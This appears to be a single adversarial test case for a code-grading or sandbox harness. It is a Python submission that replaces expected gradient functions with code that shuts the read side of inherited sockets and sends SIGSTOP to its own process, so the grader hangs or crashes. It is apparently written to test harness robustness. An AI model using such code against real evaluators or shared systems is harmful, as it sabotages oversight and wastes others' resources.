# attack: never read the next request, or shut the socket in one direction
# asset: time of others
# channel: wire
# beats otter: no
# expect: crashed,timed_out,wrong
# place: after
import signal
import os
import socket


def channels():
    for descriptor in range(3, 64):
        try:
            yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass


def attack(*args):
    for channel in channels():
        channel.shutdown(socket.SHUT_RD)
    return args


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
mse_gradients = lambda *a: os.kill(os.getpid(), signal.SIGSTOP)
